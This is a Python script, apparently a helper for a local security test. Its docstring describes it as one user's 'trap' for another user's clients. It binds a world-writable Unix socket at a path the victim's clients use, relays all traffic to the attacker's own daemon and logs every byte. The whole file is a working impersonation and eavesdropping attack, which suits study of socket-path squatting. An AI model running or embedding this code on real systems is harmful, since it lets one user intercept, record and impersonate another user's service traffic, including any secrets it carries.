"""User B's trap for user A's clients: B listens at a path A's clients will use and relays every byte
to a daemon of B's own, keeping a copy (run as B: ``python3 impersonation.py LISTEN TARGET LOG``)."""
import os
import socket
import sys
import threading


def pipe(source, sink, log):
    while True:
        try:
            data = source.recv(65536)
        except OSError:
            data = b""
        if not data:
            break
        with open(log, "ab") as copy:
            copy.write(data)
        sink.sendall(data)
    try:
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def main():
    listen, target, log = sys.argv[1:4]
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(listen)
    os.chmod(listen, 0o777)
    listener.listen(16)
    print("ready", flush=True)
    while True:
        client, _ = listener.accept()
        upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        upstream.connect(target)
        threading.Thread(target=pipe, args=(client, upstream, log), daemon=True).start()
        threading.Thread(target=pipe, args=(upstream, client, log), daemon=True).start()


main()
